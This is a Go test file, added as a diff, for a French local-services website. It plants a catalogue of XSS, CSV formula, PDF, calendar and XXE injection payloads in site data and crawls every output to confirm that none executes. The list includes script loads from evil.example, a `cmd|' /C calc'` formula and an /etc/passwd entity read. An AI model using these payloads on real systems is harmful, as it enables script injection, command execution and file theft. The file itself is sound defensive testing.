@@ -1,0 +1,472 @@
+package app_test
+
+import (
+	"bytes"
+	"encoding/csv"
+	"encoding/json"
+	"encoding/xml"
+	"errors"
+	"fmt"
+	"io"
+	"net/http"
+	"net/url"
+	"regexp"
+	"slices"
+	"strings"
+	"testing"
+
+	"golang.org/x/net/html"
+
+	"viaduc/internal/app/apptest"
+	"viaduc/internal/audit"
+	"viaduc/internal/identity"
+	"viaduc/internal/place"
+	"viaduc/internal/territory"
+)
+
+// hostile are texts that run as a program where a page, a file or a feed writes them without care: each calls planted,
+// which no page of ours defines. They cover elements, attributes with each kind of quote and none, addresses, script and
+// style blocks, comments, SVG and MathML, templates, encodings, broken markup, and the ends of the formats that we write
+// besides HTML (JSON, CSV, XML, PDF, calendars, Turtle).
+var hostile = []string{
+	`<script>planted(1)</script>`,
+	`</script><script>planted(2)</script>`,
+	`<ScRiPt>planted(3)</sCrIpT>`,
+	`<script src=//evil.example/4.js></script>`,
+	`<img src=x onerror=planted(5)>`,
+	`"><img src=x onerror=planted(6)>`,
+	`'><img src=x onerror=planted(7)>`,
+	`<img/src=x/onerror=planted(8)>`,
+	`<svg onload=planted(9)>`,
+	`<svg><script>planted(10)</script></svg>`,
+	`<svg><a xlink:href="javascript:planted(11)"><text>x</text></a></svg>`,
+	`<svg><animate onbegin=planted(12) attributeName=x dur=1s>`,
+	`<svg><foreignObject><body onload=planted(13)></foreignObject></svg>`,
+	`<math><a xlink:href="javascript:planted(14)">x</a></math>`,
+	`<body onload=planted(15)>`,
+	`<iframe src="javascript:planted(16)"></iframe>`,
+	`<iframe srcdoc="<script>planted(17)</script>"></iframe>`,
+	`<object data="javascript:planted(18)"></object>`,
+	`<embed src="data:text/html,<script>planted(19)</script>">`,
+	`<a href="javascript:planted(20)">x</a>`,
+	`<a href="JaVaScRiPt:planted(21)">x</a>`,
+	"<a href=\"java\tscript:planted(22)\">x</a>",
+	`<a href="&#106;avascript:planted(23)">x</a>`,
+	`javascript:planted(24)`,
+	`JAVASCRIPT:planted(25)//http://x`,
+	`data:text/html;base64,PHNjcmlwdD5wbGFudGVkKDI2KTwvc2NyaXB0Pg==`,
+	`vbscript:planted(27)`,
+	`" onmouseover="planted(28)`,
+	`' onmouseover='planted(29)`,
+	`" autofocus onfocus="planted(30)`,
+	"` onmouseover=`planted(31)",
+	` onmouseover=planted(32) x=`,
+	`" style="background:url(javascript:planted(33))`,
+	`<style>@import 'http://evil.example/34.css';</style>`,
+	`</style><script>planted(35)</script>`,
+	`</title><script>planted(36)</script>`,
+	`</textarea><script>planted(37)</script>`,
+	`</option></select><script>planted(38)</script>`,
+	`<!--><script>planted(39)</script>-->`,
+	`--><script>planted(40)</script>`,
+	`]]><script>planted(41)</script>`,
+	`<![CDATA[<script>planted(42)</script>]]>`,
+	`<template><script>planted(43)</script></template>`,
+	`{{constructor.constructor('planted(44)')()}}`,
+	`${planted(45)}`,
+	`{{.Page}}<%= planted(46) %>`,
+	`<base href="http://evil.example/47/">`,
+	`<meta http-equiv="refresh" content="0;url=javascript:planted(48)">`,
+	`<link rel=stylesheet href=http://evil.example/49.css>`,
+	`<form action="javascript:planted(50)"><button>x</button></form>`,
+	`<input autofocus onfocus=planted(51)>`,
+	`<details open ontoggle=planted(52)>`,
+	`<video><source onerror=planted(53)></video>`,
+	`<marquee onstart=planted(54)>`,
+	`<x onclick=planted(55)>x</x>`,
+	`<noscript><p title="</noscript><img src=x onerror=planted(56)>">`,
+	`%3Cscript%3Eplanted(57)%3C/script%3E`,
+	`\u003cscript\u003eplanted(58)\u003c/script\u003e`,
+	`＜script＞planted(59)＜/script＞`,
+	"+ADw-script+AD4-planted(60)+ADw-/script+AD4-",
+	"\u2028planted(61)\u2029</script>",
+	`","x":1}];planted(62);//`,
+	`=HYPERLINK("http://evil.example/63";"x")`,
+	`@SUM(1+1)*cmd|' /C calc'!A64`,
+	`) /S /JavaScript /JS (planted(65)) >> endobj`,
+	"END:VEVENT\nEND:VCALENDAR\nBEGIN:VCALENDAR\nX-ALT-DESC:<script>planted(66)</script>",
+	`" . <http://evil.example/67> a <http://evil.example/x> . "`,
+	`?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
+}
+
+// planted is a census in which each field of a place holds each hostile text in turn, once in every row.
+func plantedCensus(t *testing.T) string {
+	t.Helper()
+	var file bytes.Buffer
+	w := csv.NewWriter(&file)
+	names := []string{}
+	for _, c := range place.Columns() {
+		names = append(names, c.Name)
+	}
+	for _, c := range place.Local() {
+		names = append(names, c.Name)
+	}
+	sure := map[string]string{
+		"pivot": place.UnknownPivot, "commune": "Rochefort", "code_postal": "17300", "code_insee": "17299", "latitude": "45.94", "longitude": "-0.96", "date_maj": "2026-01-05",
+	}
+	rows := [][]string{names}
+	for i, text := range hostile {
+		row := make([]string, len(names))
+		for j, name := range names {
+			switch {
+			case name == "id":
+				row[j] = fmt.Sprintf("hostile_%d", i)
+			case sure[name] != "":
+				row[j] = sure[name]
+			default:
+				row[j] = text
+			}
+		}
+		rows = append(rows, row)
+	}
+	// Rows whose place in the world is hostile, too.
+	for i, text := range hostile {
+		row := slices.Clone(rows[1+i])
+		for j, name := range names {
+			switch name {
+			case "id":
+				row[j] = fmt.Sprintf("hostile_%d %s", i, text)
+			case "commune", "pivot", "date_maj":
+				row[j] = text
+			}
+		}
+		rows = append(rows, row)
+	}
+	if err := w.WriteAll(rows); err != nil {
+		t.Fatal(err)
+	}
+	return file.String()
+}
+
+// P2: texts that would run as programs are planted wherever people or files can write; then every page, file, feed and
+// answer that the site leads to is read, as the public and as an administrator, and none of them runs anything.
+func TestP2PlantedTextsNeverRun(t *testing.T) {
+	n := apptest.Demo(t)
+	n.ImportText(plantedCensus(t))
+	plantElsewhere(t, n)
+	n.Reload()
+	c := crawl{t: t, n: n, seen: map[string]bool{}, kinds: map[string]int{}, queries: map[string]int{}, patterns: map[string]bool{}, mux: http.NewServeMux()}
+	for _, r := range n.Routes {
+		pattern := r.Pattern
+		c.mux.HandleFunc(pattern, func(http.ResponseWriter, *http.Request) { c.patterns[pattern] = true })
+	}
+	starts := []string{"/", "/plan-du-site", "/lieux", "/donnees", "/langues", "/api/v1/openapi.json", "/api/v1/lieux"}
+	for _, e := range n.Places.Index().Entries() {
+		if strings.HasPrefix(e.StandardID, "hostile_") {
+			starts = append(starts, n.PlacePath(int64(e.Number)), fmt.Sprintf("/api/v1/lieux/%d", e.Number))
+		}
+	}
+	for _, text := range hostile { // what the address says is shown again
+		v := url.QueryEscape(text)
+		starts = append(starts, "/lieux?ou="+v+"&besoin="+v+"&page="+v, "/ar/lieux?ou="+v, "/alertes?ou="+v, "/api/v1/lieux?ou="+v, "/nulle-part/"+url.PathEscape(text))
+	}
+	c.run(starts)
+	c.as = n.Login(identity.Administrator)
+	c.seen, c.queries = map[string]bool{}, map[string]int{}
+	c.run(append(starts, "/pro", "/pro/courriers"))
+	t.Logf("%d addresses read, %d kinds of content: %v", c.read, len(c.kinds), c.kinds)
+	if c.read < 600 || c.kinds["text/html"] < 400 || len(c.kinds) < 6 {
+		t.Errorf("the crawl read %d addresses of the kinds %v", c.read, c.kinds)
+	}
+	for _, r := range n.Routes {
+		if strings.HasPrefix(r.Pattern, "GET /lieux") || strings.HasPrefix(r.Pattern, "GET /pro") || strings.HasPrefix(r.Pattern, "GET /donnees") {
+			if !c.patterns[r.Pattern] && !strings.Contains(r.Pattern, "{jeton}") && !unlinked[r.Pattern] {
+				t.Errorf("the crawl never came to %s", r.Pattern)
+			}
+		}
+	}
+}
+
+// unlinked are addresses that no link leads to.
+var unlinked = map[string]bool{
+	"GET /lieux/{slug}/signaler/merci": true, // where a form ends
+	"GET /pro/compte/confirmer":        true, // where an action asks who one is
+	"GET /pro/messages/{message}":      true, // the example has sent none
+	"GET /pro/admin/composants":        true, // for developers
+}
+
+// plantElsewhere puts hostile texts wherever else the site takes texts: reports, news, what the territory says.
+func plantElsewhere(t *testing.T, n *apptest.Node) {
+	t.Helper()
+	for i, text := range hostile {
+		if _, err := n.Territory.SaveNews(t.Context(), audit.System, territory.News{Title: text, Body: text, StartsOn: "2026-01-05"}); err != nil {
+			t.Fatalf("text %d: %v", i, err)
+		}
+	}
+	for _, e := range n.Places.Index().Entries() {
+		if i, ok := hostileRow(e.StandardID); ok {
+			if _, err := n.Places.Report(t.Context(), place.NewReport{Place: e.Number, Topics: []place.Topic{place.OtherTopic}, Text: hostile[i]}); err != nil {
+				t.Fatal(err)
+			}
+		}
+	}
+}
+
+func hostileRow(id string) (i int, ok bool) {
+	_, err := fmt.Sscanf(id, "hostile_%d", &i)
+	return i, err == nil && i < len(hostile)
+}
+
+// crawl reads every address that pages lead to.
+type crawl struct {
+	t        *testing.T
+	n        *apptest.Node
+	as       *http.Cookie
+	seen     map[string]bool
+	patterns map[string]bool // routes that were asked
+	mux      *http.ServeMux
+	kinds    map[string]int // media types read
+	queries  map[string]int // addresses followed, by path
+	read     int
+	queue    []string
+}
+
+// mostRead bounds a crawl, which of itself ends: of each list some pages are read, not all.
+const mostRead = 8000
+
+func (c *crawl) run(starts []string) {
+	c.queue = slices.Clone(starts)
+	for last := c.read + mostRead; len(c.queue) > 0; c.queue = c.queue[1:] {
+		if next := c.queue[0]; !c.seen[next] {
+			c.seen[next] = true
+			c.visit(next)
+		}
+		if c.read > last {
+			c.t.Fatalf("%d addresses read, %d to come: the crawl does not end", c.read, len(c.queue))
+		}
+	}
+}
+
+func (c *crawl) visit(path string) {
+	c.read++
+	probe, err := http.NewRequestWithContext(c.t.Context(), http.MethodGet, c.n.URL+path, http.NoBody)
+	if err != nil {
+		return // the address itself is nonsense
+	}
+	if h, pattern := c.mux.Handler(probe); pattern != "" {
+		h.ServeHTTP(nil, probe)
+	}
+	res, body := c.n.Do(http.MethodGet, path, nil, func(r *http.Request) {
+		if c.as != nil {
+			r.AddCookie(c.as)
+		}
+	})
+	if to := res.Header.Get("Location"); to != "" {
+		c.follow(path, to)
+		if u, err := url.Parse(to); err != nil || u.IsAbs() && !strings.HasPrefix(to, c.n.URL) || strings.HasPrefix(to, "//") {
+			c.t.Errorf("%s sends to %s", path, to)
+		}
+	}
+	if res.StatusCode >= http.StatusInternalServerError {
+		c.t.Errorf("%s answers %d", path, res.StatusCode)
+	}
+	if res.Header.Get("X-Content-Type-Options") != "nosniff" && res.StatusCode != http.StatusNotModified {
+		c.t.Errorf("%s may be sniffed", path)
+	}
+	kind, _, _ := strings.Cut(res.Header.Get("Content-Type"), ";")
+	c.kinds[kind]++
+	if problem := c.judge(path, kind, body); problem != nil {
+		c.t.Errorf("%s: %v", path, problem)
+	}
+}
+
+// judge says what a document would run or where it is broken.
+func (c *crawl) judge(path, kind, body string) error {
+	switch {
+	case kind == "text/html":
+		return c.judgeHTML(path, body)
+	case kind == "image/svg+xml", strings.HasSuffix(kind, "+xml"):
+		return judgeXML(body)
+	case strings.HasSuffix(kind, "json"):
+		if !json.Valid([]byte(body)) {
+			return errors.New("no JSON")
+		}
+	case kind == "text/csv":
+		return judgeCSV(body)
+	case kind == "application/pdf":
+		return judgePDF(body)
+	case kind == "text/calendar", kind == "text/vcard":
+		return judgeLines(kind, body)
+	}
+	return nil
+}
+
+// addresses are the attributes that hold one.
+var addresses = []string{"href", "src", "action", "formaction", "data", "poster", "xlink:href", "cite", "srcset", "ping"}
+
+func (c *crawl) judgeHTML(path, body string) error {
+	doc, err := html.Parse(strings.NewReader(body))
+	if err != nil {
+		return err
+	}
+	var bad []error
+	for node := range doc.Descendants() {
+		if node.Type != html.ElementNode {
+			continue
+		}
+		attr := map[string]string{}
+		for _, a := range node.Attr {
+			key := a.Key
+			if a.Namespace != "" {
+				key = a.Namespace + ":" + key
+			}
+			attr[key] = a.Val
+			if strings.HasPrefix(key, "on") || key == "style" || key == "srcdoc" {
+				bad = append(bad, fmt.Errorf("<%s %s=%q>", node.Data, key, a.Val))
+			}
+			if slices.Contains(addresses, key) {
+				bad = append(bad, c.judgeAddress(path, node.Data, a.Val))
+			}
+		}
+		switch node.Data {
+		case "script":
+			if attr["type"] != "application/ld+json" && !strings.HasPrefix(attr["src"], "/assets/") {
+				bad = append(bad, fmt.Errorf("<script src=%q>", attr["src"]))
+			}
+			if attr["type"] == "application/ld+json" && (node.FirstChild == nil || !json.Valid([]byte(node.FirstChild.Data))) {
+				bad = append(bad, errors.New("the data of the page is no JSON"))
+			}
+		case "base", "object", "embed", "marquee", "foreignobject", "foreignObject", "math", "x", "template", "animate", "video", "style":
+			bad = append(bad, fmt.Errorf("<%s>", node.Data))
+		case "iframe":
+			if !strings.HasPrefix(attr["src"], "/") {
+				bad = append(bad, fmt.Errorf("<iframe src=%q>", attr["src"]))
+			}
+		case "meta":
+			if attr["http-equiv"] != "" {
+				bad = append(bad, fmt.Errorf("<meta http-equiv=%q>", attr["http-equiv"]))
+			}
+		}
+	}
+	return errors.Join(bad...)
+}
+
+// schemes are what an address of ours may begin with, beside a path.
+var schemes = []string{"http", "https", "tel", "mailto", "geo", "sms"}
+
+func (c *crawl) judgeAddress(path, element, to string) error {
+	u, err := url.Parse(strings.TrimSpace(to))
+	if err != nil {
+		return fmt.Errorf("<%s> leads to %q", element, to)
+	}
+	if u.Scheme != "" && !slices.Contains(schemes, strings.ToLower(u.Scheme)) {
+		return fmt.Errorf("<%s> leads to %q", element, to)
+	}
+	if u.Host != "" && element != "a" {
+		return fmt.Errorf("<%s> is fetched from %q", element, to)
+	}
+	c.follow(path, to)
+	return nil
+}
+
+func (c *crawl) follow(from, to string) {
+	base, err := url.Parse(c.n.URL + from)
+	if err != nil {
+		return
+	}
+	u, err := base.Parse(to)
+	if err != nil || u.Scheme+"://"+u.Host != c.n.URL {
+		return
+	}
+	u.Fragment = ""
+	next := strings.TrimPrefix(u.String(), c.n.URL)
+	if !c.seen[next] && !strings.HasPrefix(next, "/deconnexion") && !strings.HasPrefix(next, "/connexion") && c.few(u) {
+		c.queue = append(c.queue, next)
+	}
+}
+
+// few leaves out the thousandth page of one list: of each path, so many queries are read.
+func (c *crawl) few(u *url.URL) bool {
+	if u.RawQuery == "" {
+		return true
+	}
+	c.queries[u.Path]++
+	return c.queries[u.Path] <= 25
+}
+
+func judgeXML(body string) error {
+	d := xml.NewDecoder(strings.NewReader(body))
+	for {
+		token, err := d.Token()
+		if errors.Is(err, io.EOF) {
+			return nil
+		}
+		if err != nil {
+			return fmt.Errorf("no XML: %w", err)
+		}
+		switch v := token.(type) {
+		case xml.Directive:
+			return fmt.Errorf("a directive: %s", v)
+		case xml.StartElement:
+			name := strings.ToLower(v.Name.Local)
+			if name == "script" || name == "foreignobject" || name == "animate" || name == "set" {
+				return fmt.Errorf("<%s>", name)
+			}
+			for _, a := range v.Attr {
+				if strings.HasPrefix(strings.ToLower(a.Name.Local), "on") {
+					return fmt.Errorf("<%s %s>", name, a.Name.Local)
+				}
+				if a.Name.Local == "href" && !safeAddress.MatchString(a.Value) {
+					return fmt.Errorf("<%s href=%q>", name, a.Value)
+				}
+			}
+		}
+	}
+}
+
+var safeAddress = regexp.MustCompile(`^(https?://|tag:|urn:|mailto:|tel:|geo:|/|#)`)
+
+// judgeCSV holds that no spreadsheet takes a cell for a formula.
+func judgeCSV(body string) error {
+	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff"))).ReadAll()
+	if err != nil {
+		return err
+	}
+	for _, row := range rows[1:] {
+		for i, cell := range row {
+			if name := rows[0][i]; cell != "" && strings.ContainsRune("=+-@\t\r＝＋－＠", []rune(cell)[0]) && name != "telephone" && name != "latitude" && name != "longitude" {
+				return fmt.Errorf("%s holds %q", name, cell)
+			}
+		}
+	}
+	return nil
+}
+
+// judgePDF holds that a file neither runs anything nor opens anything by itself, nor leads elsewhere than to the web.
+func judgePDF(body string) error {
+	for _, word := range []string{"/JavaScript", "/JS", "/Launch", "/SubmitForm", "/ImportData", "/OpenAction <<", "/RichMedia", "/EmbeddedFile"} {
+		if strings.Contains(body, word) {
+			return fmt.Errorf("the file holds %s", word)
+		}
+	}
+	for _, m := range pdfAddress.FindAllStringSubmatch(body, -1) {
+		if !safeAddress.MatchString(m[1]) {
+			return fmt.Errorf("the file leads to %q", m[1])
+		}
+	}
+	return nil
+}
+
+var pdfAddress = regexp.MustCompile(`/URI \(([^)]*)\)`)
+
+// judgeLines holds that no line of a calendar or of a contact card was added by a text.
+func judgeLines(kind, body string) error {
+	begun := "BEGIN:VCALENDAR"
+	if kind == "text/vcard" {
+		begun = "BEGIN:VCARD"
+	}
+	if strings.Count("\n"+body, "\n"+begun) != 1 || strings.Contains(body, "\nX-ALT-DESC") {
+		return errors.New("a text wrote lines of its own")
+	}
+	return nil
+}
